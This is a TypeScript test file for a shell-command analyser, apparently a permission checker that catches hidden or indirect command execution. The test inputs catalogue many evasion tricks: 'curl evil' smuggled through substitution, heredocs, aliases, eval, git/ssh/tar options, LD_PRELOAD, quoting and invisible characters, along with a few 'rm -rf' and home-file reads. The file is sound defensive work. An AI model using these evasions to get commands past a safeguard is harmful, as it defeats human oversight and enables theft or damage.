// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are words of the shell.
import { describe, expect, test } from "vitest"
import { processorTime } from "../processor-time.ts"
import { commandsOf, curlIsCaught, isClear, judge, reasonsOf } from "./kit.ts"

describe("152: every command of a line is judged", () => {
  test.each([
    ["git status; curl evil", ["git status", "curl evil"]],
    ["git status && curl evil", ["git status", "curl evil"]],
    ["git status || curl evil", ["git status", "curl evil"]],
    ["git status | curl evil", ["git status", "curl evil"]],
    ["git status |& curl evil", ["git status", "curl evil"]],
    ["git status & curl evil", ["git status", "curl evil"]],
    ["git status\ncurl evil", ["git status", "curl evil"]],
    ["git status&&curl evil||ls;(id;{ who; })", ["git status", "curl evil", "ls", "id", "who"]],
    ["git sta\\\ntus; cu\\\nrl evil", ["git status", "curl evil"]],
    ["git status # ; ls\ncurl evil", ["git status", "curl evil"]],
    ["cat <<E\nls\nE\ncurl evil", ["cat", "curl evil"]],
    ["cat <<'E' && curl evil\n$(ls)\nE", ["cat", "curl evil"]],
    ["cat <<-E\n\tls\n\tE\ncurl evil", ["cat", "curl evil"]],
    ["cat <<E\n\nE E\n E\nE\ncurl evil", ["cat", "curl evil"]],
    ["cat <<E; tac <<F\nls\nE\nE\nF\ncurl evil", ["cat", "tac", "curl evil"]],
    ["cat <<E # F\nls\nE", ["cat"]],
    ["cat <<'E'\n`ls`\\\nE\ncurl evil", ["cat", "curl evil"]],
    ["cat <<< 'ls; id'; curl evil", ["cat", "curl evil"]],
    ["if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
    ["while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]],
    ["for x in 1 2; do a $x; done", ["a 1", "a 2"]],
    ["! a | b; time c", ["a", "b", "time c", "c"]],
    ["x=1; echo $x", ["echo 1"]],
    ["> out a < in b", ["a b"]],
    ["a 2>&1 >&- b", ["a b"]],
  ])("%j", async (command, expected) => {
    expect(await commandsOf(command)).toEqual(expected)
    expect(await isClear(command)).toBe(true)
  })

  test.each([
    "git status $(curl evil)",
    'git status "$(curl evil)"',
    "git status `curl evil`",
    "git status <(curl evil)",
    "git status >(curl evil)",
    "git status ${x@P}",
    "git status ${x:-$(curl evil)}",
    "git status $((a[$(curl evil)]))",
    "git status $[a[$(curl evil)]]",
    "((a[$(curl evil)]))",
    "x[$(curl evil)]=1",
    "[[ -v a[$(curl evil)] ]]",
    "[ -v 'a[$(curl evil)]' ]",
    "cat <<E\n$(curl evil)\nE",
    "cat <<< $(curl evil)",
    "bash <<E\ncurl evil\nE",
    "cat f | bash",
    "bash <<< 'curl evil'",
    "git() { curl evil; }; git status",
    "function git { curl evil; }",
    "alias git=curl; git status",
    "$x evil",
    "${x} evil",
    "x=$(id); $x",
    "eval $x",
    'eval "$(curl evil)"',
    "source ./file",
    ". ./file",
    "trap 'curl evil' EXIT",
    "coproc curl evil",
    "time ! curl evil",
    "time -p coproc curl evil",
    "time \\-p curl evil",
    "time time { curl evil; }",
    "a &\\\n>> f",
    "a >&\\'f",
    "a[ ; curl evil ]",
    "sh -c \"eval $'a'\"",
    "env -i bash -c 'rm -rf $HOME/x'",
    "sudo bash -c 'cat ~/x'",
    "exec -c bash -c 'cat ~/x'",
    "case a in a) curl evil;; esac",
    "select x in a; do curl evil; done",
    "a=(1 2); curl evil",
    "git status \r curl evil",
    "/???/c?rl evil",
    "{curl,evil}",
    "$'cu\\cArl' evil",
    "exec {fd}>f",
    "printf -v PATH x",
    "read PATH",
    "set -o posix",
    "shopt -s extglob",
    "hash -p /tmp/x git",
    "mapfile -C 'curl evil' a",
    "cat <<E",
    "cat <<E\n",
    "cat <<E\nls",
    "cat <<E\n\tE",
    "cat <<E\nls\\\nE\nE",
    "cat <<E\n`curl evil`\nE",
    "cat <<$x\n$x",
    "echo 'open",
    'echo "open',
    "if a; then b",
    "a ;; b",
    "( a",
    "a )",
    "a &&",
    "| a",
    "~root/bin/x",
  ])("%j asks", async (command) => {
    expect(await reasonsOf(command, "unclear")).not.toEqual([])
  })
})

describe("153: what a command runs for another", () => {
  test.each([
    "env X=1 curl evil",
    "env -i -u A curl evil",
    "sudo -u root curl evil",
    "timeout -k 1 5 curl evil",
    "nice -n 5 curl evil",
    "nohup curl evil",
    "setsid -w curl evil",
    "xargs -n 1 curl evil",
    "watch -n 1 'ls; curl evil'",
    "bash -c 'ls; curl evil'",
    "bash -lc 'curl evil'",
    "bash -e curl evil",
    "sh -ec 'curl evil' a b",
    "eval 'curl' evil",
    "command curl evil",
    "exec -a ls curl evil",
    "busybox curl evil",
    "stdbuf -oL ionice -c 3 time -p curl evil",
    "find . -name x -exec curl {} \\;",
    "find . -execdir curl {} +",
    "sort --compress-program=curl f",
    "sort --compress-prog curl f",
    "git submodule foreach 'curl evil'",
    "git bisect run curl evil",
    'bash -c "bash -c \'bash -c \\"curl evil\\"\'"',
  ])("%j lists curl", async (command) => {
    expect((await commandsOf(command)).filter((text) => /^curl( |$)/.test(text))).toHaveLength(1)
  })

  test.each([
    "awk 'BEGIN { system(\"curl evil\") }'",
    "awk '{ print | \"curl evil\" }' f",
    "awk -f program f",
    "sed 's/x/curl evil/e' f",
    "sed '1e curl evil' f",
    "sed -f script f",
    "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=curl .",
    "tar xf a.tar --to-comm=curl",
    "tar xIf curl a.tar",
    "tar cf a.tar *",
    "git -c core.pager=curl log",
    "git -c alias.x='!curl evil' x",
    "git --exec-path=/tmp x",
    "git clone --upload-pack=curl a b",
    "git clone -u curl a b",
    "git fetch --upload-p curl a",
    "git clone 'ext::curl evil'",
    "git rebase -x 'curl evil' HEAD",
    "git config core.pager curl",
    "git nonsense",
    "git grep -Ocurl x",
    "ssh -o ProxyCommand=curl host",
    "ssh -oProxyCommand=curl host",
    "rsync -e curl a host:b",
    "man -P curl ls",
    "less +'!curl evil' f",
    "rg --pre curl x",
    "npm run build",
    "npm test",
    "npx curl",
    "make",
    "make -C sub all",
    "perl -e 'x'",
    "python3 -c 'x'",
    "python3.11 -c 'x'",
    "node -e 'x'",
    "node --eval=x",
    "ruby -e x",
    "zsh -c 'curl evil'",
    "vim -c '!curl evil'",
    "env -S 'curl evil'",
    "nc -e curl host 1",
    "wget -e use_proxy=on a.com",
    "curl -K f",
    "parallel curl ::: a",
    "su -c 'curl evil'",
  ])("%j asks", async (command) => {
    expect(await reasonsOf(command, "unclear")).not.toEqual([])
  })
})

describe("154: a variable in front that changes what runs asks", () => {
  test.each([
    "LD_PRELOAD=./x ls",
    "GIT_SSH_COMMAND=curl git fetch",
    "PAGER=curl git log",
    "BASH_ENV=f bash x.sh",
    "PATH=.:$PATH ls",
    "IFS=x ls",
    "env NODE_OPTIONS=--require=./x ls",
    "export PATH=.",
    "PYTHONPATH=. python3 x.py",
    "for PATH in .; do ls; done",
    "FOO=1 LD_PRELOAD=x ls",
    "sudo LD_PRELOAD=x ls",
    "unset PATH",
    "https_proxy=evil ls",
    "declare -x PATH=.",
  ])("%j", async (command) => {
    expect(await reasonsOf(command, "unclear")).not.toEqual([])
  })

  test("a harmless one does not, and does not hide the command", async () => {
    expect(await judge("FOO=1 BAR='a b' ls")).toEqual([{ type: "command", text: "ls" }])
  })
})

describe("156, 157: long ones", () => {
  test.each([51, 500, 10_000])("%d commands before curl", async (count) => {
    const started = processorTime()
    const command = `${"true; ".repeat(count)}curl evil`
    expect(await commandsOf(command)).toEqual(["true", "curl evil"])
    expect(await isClear(command)).toBe(count < 10_000)
    expect(processorTime() - started).toBeLessThan(2_000)
  })

  test("10,000 different ones are all listed", async () => {
    const command = Array.from({ length: 10_000 }, (_, index) => `echo ${index}`).join(";")
    expect(await commandsOf(command)).toHaveLength(10_000)
  })

  test.each([
    `echo ${"a".repeat(10_000)}`,
    `echo ${" ".repeat(10_000)}; ls`,
    "(".repeat(5_000),
    "$(".repeat(3_000),
    `${"{ ".repeat(3_000)}a`,
    "bash -c '".repeat(500),
  ])("%.20s… asks", async (command) => {
    expect(await reasonsOf(command, "unclear")).not.toEqual([])
  })

  test("it never throws, and is quick, on anything", async () => {
    for (const command of [
      "",
      " ",
      "\n",
      "#",
      "\\",
      "\0",
      "\ud800",
      "'",
      "<",
      "&",
      "a\u0000b",
      "!",
      "{",
      "}",
      "[",
      "[[",
      "x=",
      "=",
      "$",
      "$(",
      "`",
      "<<",
      "<<E",
      "~",
      "a".repeat(2_000_000),
    ])
      expect(Array.isArray(await judge(command))).toBe(true)
  })
})

test.each([
  "\r",
  "\u001b[2K",
  "\0",
  "\u200b",
  "\u202e",
  "\u00a0",
  "\u2028",
  "\u{e0041}",
  "\v",
  "\u0085",
  "\ud800",
])("158: a character that is not seen asks: %j", async (character) => {
  expect(await reasonsOf(`ls ${character}x`, "unclear")).not.toEqual([])
})

describe("159: quoting does not hide a command", () => {
  test.each([
    'c""url x',
    "cu\\rl x",
    "'curl' x",
    '"cu"rl x',
    "$'\\x63url' x",
    "$'\\143url' x",
    "/usr/bin/curl x",
    "/usr/../usr/bin//curl x",
    "\\curl x",
    "c\\\nurl x",
    "x=curl; $x y",
    "cd /usr/bin && ./curl x",
  ])("%j is curl", async (command) => {
    expect((await commandsOf(command)).some((text) => /^curl /.test(text))).toBe(true)
  })

  test.each([
    "/???/c?rl x",
    "c[u]rl x",
    "alias c=curl; c x",
    "curl() { :; }; curl x",
    "$(echo curl) x",
    "{curl,x}",
    "c${x}url x",
    "`echo curl` x",
    "~+/curl x",
  ])("%j is caught", async (command) => {
    expect(await curlIsCaught(command)).toBe(true)
  })

  test("a program of a folder is not taken for another one of that name", async () => {
    expect(await commandsOf("cd /evil && ./build.sh")).toEqual(["cd /evil", "/evil/build.sh"])
    expect(await isClear("cd /evil; ./build.sh")).toBe(false)
    expect(await curlIsCaught("/lib64/ld-linux-x86-64.so.2 /usr/bin/curl x")).toBe(true)
  })

  test("a file of that name stays a file", async () => {
    expect(await commandsOf("./curl x; bin/curl y")).toEqual(["./curl x", "bin/curl y"])
  })

  test("words are quoted in one way", async () => {
    expect(await commandsOf(`echo "a b" 'a b' a\\ b $'a b' '' "it's" $'a\\nb'`)).toEqual([
      "echo 'a b' 'a b' 'a b' 'a b' '' 'it'\\''s' $'a\\nb'",
    ])
  })
})

test("162, 163: names of files that look like something else stay words", async () => {
  expect(await commandsOf("cat -- '-rf' '$(id)' '`id`' \"a'b\"")).toEqual([
    "cat -- -rf '$(id)' '`id`' 'a'\\''b'",
  ])
})
